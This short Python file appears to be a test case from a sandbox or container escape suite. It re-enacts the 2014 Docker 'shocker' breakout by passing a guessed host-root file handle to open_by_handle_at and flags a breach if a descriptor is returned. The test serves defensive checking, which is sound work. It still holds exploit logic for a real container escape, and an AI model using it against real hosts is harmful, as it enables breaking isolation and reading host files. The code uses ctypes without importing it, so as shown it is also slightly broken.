# id: fs-open-by-handle
# category: filesystem
# description: open_by_handle_at with a guessed handle of the host root (the "shocker" container escape)
# source: Docker "shocker" exploit (2014): CAP_DAC_READ_SEARCH + open_by_handle_at
# detect: token (the token lands in OUT)
# uses: prove, syscall
import os


prove()
handle = ctypes.create_string_buffer(8 + 8)
ctypes.memmove(handle, (8).to_bytes(4, 'little') + (1).to_bytes(4, 'little') + (2).to_bytes(8, 'little'), 16)
dirfd = os.open('/', os.O_RDONLY)
fd, err = syscall('open_by_handle_at', dirfd, ctypes.addressof(handle), os.O_RDONLY)
if fd >= 0:
    breach('open_by_handle_at returned fd %d' % fd)
